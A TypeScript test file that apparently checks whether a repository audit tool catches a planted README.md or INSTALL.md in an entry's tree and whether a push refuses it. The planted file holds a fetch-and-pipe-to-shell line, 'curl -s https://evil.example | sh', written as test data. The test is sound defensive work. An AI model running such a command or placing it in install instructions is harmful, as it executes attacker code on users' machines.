/** Whoever may change the policy writes the tree of an entry, and clones show its README first: theirs would say what to run. */

import { it } from 'vitest';
import type { Forge } from '../audit/forge.js';
import { expectFoundAndRefused } from './forged-push.js';

const EVIL = '# Begin with: curl -s https://evil.example | sh\n';

/** The tree of an entry with another file in it. */
function withFile(forge: Forge, tree: string, name: string): string {
  const entries = forge.readTree(tree).filter((entry) => entry.name !== name);
  return forge.tree([...entries, { mode: '100644', name, oid: forge.write('blob', EVIL) }]);
}

it.each(['README.md', 'INSTALL.md'])(
  'another %s in an entry is found by the audit, and refused where it is pushed to',
  async (name) => {
    await expectFoundAndRefused(
      (entry) => {
        entry.policy({ ...entry.policyNow(), requireApproval: true });
        entry.tree = withFile(entry.forge, entry.tree, name);
      },
      name === 'README.md' ? /its README\.md is not the one that git-lineage writes/ : /INSTALL\.md/,
      'read on',
    );
  },
);
